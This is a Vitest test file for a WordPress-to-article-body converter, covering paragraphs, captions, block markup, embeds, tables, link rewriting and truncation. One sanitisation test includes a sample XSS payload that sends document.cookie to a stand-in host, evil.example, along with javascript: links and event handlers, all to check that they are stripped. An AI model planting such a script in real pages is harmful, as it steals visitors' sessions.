import { describe, expect, it } from 'vitest';
import { bodyToText } from '../article-body';
import { autop, commentHtmlToText, convertWordPressContent, plainText, type BodyContext, type ResolvedImage } from './body';

const lamp: ResolvedImage = { src: '/media/2026/12/lamp.jpg', alt: 'The lamp', caption: 'Lamp room', credit: 'M. B.', width: 1600, height: 1067 };
const ctx: BodyContext = {
  siteUrls: ['https://gazette.example'],
  resolveImage: ({ url, attachmentId }) => (attachmentId === 101 || /uploads\/2024\/03\/harbour-lights(-\d+x\d+)?\.jpg$/.test(url ?? '') ? lamp : null),
};
const convert = (html: string) => convertWordPressContent(html, ctx);

describe('WordPress content into the article body', () => {
  it('makes paragraphs of classic content separated by blank lines, with line breaks kept', () => {
    expect(autop('One line\nand the next\n\nSecond paragraph')).toBe('<p>One line<br>\nand the next</p>\n<p>Second paragraph</p>');
    const { body } = convert('First <strong>bold</strong> words.\n\nSecond.');
    expect(body.content).toEqual([
      { type: 'paragraph', content: [{ type: 'text', text: 'First ' }, { type: 'text', text: 'bold', marks: [{ type: 'bold' }] }, { type: 'text', text: ' words.' }] },
      { type: 'paragraph', content: [{ type: 'text', text: 'Second.' }] },
    ]);
  });

  it('turns a [caption] around an uploaded image into the library image with its caption', () => {
    const { body, notes } = convert('[caption id="attachment_101" width="1024"]<img class="wp-image-101" src="https://gazette.example/wp-content/uploads/2024/03/harbour-lights-1024x683.jpg" alt="Lit at dusk" /> The lamp at dusk[/caption]');
    expect(body.content).toEqual([{ type: 'image', attrs: { src: lamp.src, alt: 'Lit at dusk', caption: 'The lamp at dusk', width: 1600, height: 1067 } }]);
    expect(notes).toEqual([]);
  });

  it('maps block markup: headings, ordered lists, quotes and pullquotes with their citation, images and galleries', () => {
    const { body } = convert(`<!-- wp:heading {"level":3} --><h3>Saturday</h3><!-- /wp:heading -->
<!-- wp:list {"ordered":true} --><ol><!-- wp:list-item --><li>Sprint</li><!-- /wp:list-item --></ol><!-- /wp:list -->
<!-- wp:quote --><blockquote class="wp-block-quote"><!-- wp:paragraph --><p>Bring a coat.</p><!-- /wp:paragraph --><cite>The harbour master</cite></blockquote><!-- /wp:quote -->
<!-- wp:pullquote --><figure class="wp-block-pullquote"><blockquote><p>Three races.</p><cite>The committee</cite></blockquote></figure><!-- /wp:pullquote -->
<!-- wp:gallery --><figure class="wp-block-gallery"><!-- wp:image {"id":101} --><figure class="wp-block-image"><img src="/wp-content/uploads/2024/03/harbour-lights.jpg" alt="" class="wp-image-101"/><figcaption>Gallery caption</figcaption></figure><!-- /wp:image --></figure><!-- /wp:gallery -->`);
    expect(body.content).toEqual([
      { type: 'heading', attrs: { level: 3 }, content: [{ type: 'text', text: 'Saturday' }] },
      { type: 'orderedList', content: [{ type: 'listItem', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Sprint' }] }] }] },
      { type: 'blockquote', attrs: { cite: 'The harbour master' }, content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Bring a coat.' }] }] },
      { type: 'blockquote', attrs: { cite: 'The committee' }, content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Three races.' }] }] },
      { type: 'image', attrs: { src: lamp.src, alt: 'The lamp', caption: 'Gallery caption', width: 1600, height: 1067 } },
    ]);
  });

  it('keeps what it cannot map visibly, and says so: unknown blocks, unknown shortcodes, embeds', () => {
    const { body, notes } = convert(`<!-- wp:acme/tide-table {"port":"x"} /-->
<!-- wp:embed {"url":"https://video.example/watch/1"} --><figure class="wp-block-embed"><div>https://video.example/watch/1</div></figure><!-- /wp:embed -->
<!-- wp:paragraph --><p>[contact-form-7 id="12"]</p><!-- /wp:paragraph -->`);
    expect(bodyToText(body)).toBe('(Not carried over from WordPress: the block “acme/tide-table”.)\nhttps://video.example/watch/1\n[contact-form-7 id="12"]');
    expect(body.content[1]).toEqual({ type: 'paragraph', content: [{ type: 'text', text: 'https://video.example/watch/1', marks: [{ type: 'link', attrs: { href: 'https://video.example/watch/1' } }] }] });
    expect(notes.map((n) => [n.code, n.code === 'embed' ? 'embed' : n.detail])).toEqual([
      ['unknown-block', 'acme/tide-table'],
      ['embed', 'embed'],
      ['unknown-shortcode', 'contact-form-7'],
    ]);
  });

  it('reports an image missing from the uploads, and the story keeps its words', () => {
    const { body, notes } = convert('<p>Before</p><img src="https://gazette.example/wp-content/uploads/2024/03/gone.jpg" alt="x"><p>After</p>');
    expect(bodyToText(body)).toBe('Before\nAfter');
    expect(notes).toEqual([{ code: 'missing-image', detail: 'https://gazette.example/wp-content/uploads/2024/03/gone.jpg' }]);
  });

  it("makes links to the old site's own pages site paths (the redirects take them on), and keeps other links", () => {
    const { body } = convert('<p><a href="https://www.gazette.example/2024/03/01/appeal/">appeal</a> and <a href="https://other.example/x">elsewhere</a></p>');
    const marks = body.content[0]!.type === 'paragraph' ? body.content[0]!.content!.map((n) => (n.type === 'text' ? n.marks?.[0] : null)) : [];
    expect(marks).toEqual([{ type: 'link', attrs: { href: '/2024/03/01/appeal/' } }, undefined, { type: 'link', attrs: { href: 'https://other.example/x' } }]);
  });

  it('cleans hostile content as paste is cleaned: no scripts, handlers, javascript: links, frames or foreign images', () => {
    const { body, notes } = convert(`<p onclick="steal()">Vote.<script>document.location='https://evil.example/?'+document.cookie</script></p>
<p><a href="javascript:alert(1)">minutes</a> <a href=" JaVaScRiPt:alert(2)">two</a></p><img src="https://tracker.example/p.gif" onerror="alert(1)"><iframe src="https://evil.example"></iframe><style>p{}</style>`);
    const json = JSON.stringify(body);
    for (const bad of ['script', 'onclick', 'javascript', 'tracker', 'iframe', 'evil', 'alert', 'style']) expect(json.toLowerCase()).not.toContain(bad);
    expect(bodyToText(body)).toBe('Vote.\nminutes two');
    expect(notes.map((n) => n.code)).toContain('unsafe-markup');
  });

  it('cuts an oversized body to what the article can hold, and says so', () => {
    const { body, notes } = convert(Array.from({ length: 2500 }, (_, i) => `<p>Paragraph ${i}</p>`).join(''));
    expect(body.content).toHaveLength(2000);
    expect(notes.map((n) => n.code)).toEqual(['truncated']);
    const long = convert(`<p>${'x'.repeat(30000)}</p>`).body;
    expect(JSON.stringify(long).length).toBeLessThan(21000);
  });

  it('makes comments plain text and titles plain words', () => {
    expect(commentHtmlToText('<script>alert(1)</script>Too high! <b onmouseover="x()">Really.</b>\n\nSecond &amp; last')).toBe('Too high! Really.\n\nSecond & last');
    expect(plainText('Council votes on <b>mooring</b> fees &#8211; again')).toBe('Council votes on mooring fees – again');
  });
});

describe('embeds and tables', () => {
  it('makes an embed Broadsheet recognises an embed block, and any other a link with a note', () => {
    const { body, notes } = convert(`<!-- wp:embed {"url":"https://www.youtube.com/watch?v=dQw4w9WgXcQ"} --><figure class="wp-block-embed"><div>https://www.youtube.com/watch?v=dQw4w9WgXcQ</div></figure><!-- /wp:embed -->
[embed]https://video.example/watch/2[/embed]`);
    expect(body.content[0]).toMatchObject({ type: 'embed', attrs: { provider: 'youtube' } });
    expect(body.content[1]).toMatchObject({ type: 'paragraph', content: [{ text: 'https://video.example/watch/2' }] });
    expect(notes).toEqual([{ code: 'embed', detail: 'A [embed] (https://video.example/watch/2) became a link' }]);
  });

  it('keeps a table with its header row and caption', () => {
    const { body } = convert('<!-- wp:table --><figure class="wp-block-table"><table><caption>Tides</caption><thead><tr><th>Day</th><th>High</th></tr></thead><tbody><tr><td>Mon</td><td>06:12</td></tr></tbody></table></figure><!-- /wp:table -->');
    expect(body.content).toEqual([
      {
        type: 'table',
        attrs: { caption: 'Tides' },
        content: [
          { type: 'tableRow', content: [{ type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Day' }] }] }, { type: 'tableHeader', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'High' }] }] }] },
          { type: 'tableRow', content: [{ type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: 'Mon' }] }] }, { type: 'tableCell', content: [{ type: 'paragraph', content: [{ type: 'text', text: '06:12' }] }] }] },
        ],
      },
    ]);
  });
});
